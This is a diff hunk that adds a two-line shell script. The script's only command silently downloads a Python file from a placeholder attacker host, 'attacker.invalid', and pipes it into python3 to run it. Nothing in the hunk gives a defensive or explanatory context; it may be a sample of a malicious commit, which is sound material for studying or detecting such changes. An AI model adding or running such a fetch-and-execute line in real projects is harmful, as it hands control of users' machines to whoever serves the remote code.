@@ -1,0 +1,2 @@
+#!/bin/sh
+wget -qO- http://attacker.invalid/a.py | python3 -
